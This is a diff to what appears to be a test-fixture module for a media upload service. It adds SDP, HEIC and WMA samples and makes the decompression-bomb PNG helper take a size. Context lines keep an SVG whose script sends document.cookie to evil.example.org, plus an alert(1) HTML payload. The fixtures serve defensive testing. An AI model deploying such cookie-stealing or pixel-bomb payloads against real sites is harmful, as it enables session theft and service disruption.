@@ -16,6 +16,8 @@ SVG_WITH_SCRIPT = (
     b"<script>fetch('https://evil.example.org/'+document.cookie)</script></svg>"
 )
 HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
+SDP = b"v=0\r\no=- 0 0 IN IP4 127.0.0.1\r\ns=A\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\nm=audio 5004 RTP/AVP 0\r\n"
+HEIC = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(1000)
 TEXT = b"This is not a song, whatever it is called.\n" * 500
 
 
@@ -48,11 +50,16 @@ def video() -> bytes:
         return path.read_bytes()
 
 
+def wma() -> bytes:
+    """Audio in a format that is not supported."""
+    return audio("asf", 1, "-c:a", "wmav2")
+
+
 @functools.cache
-def picture_bomb() -> bytes:
+def picture_bomb(side: int = 12_000) -> bytes:
     """A small file that decodes to more pixels than anybody needs."""
     target = io.BytesIO()
-    Image.new("1", (12_000, 12_000)).save(target, "PNG")
+    Image.new("1", (side, side)).save(target, "PNG")
     return target.getvalue()
 
 
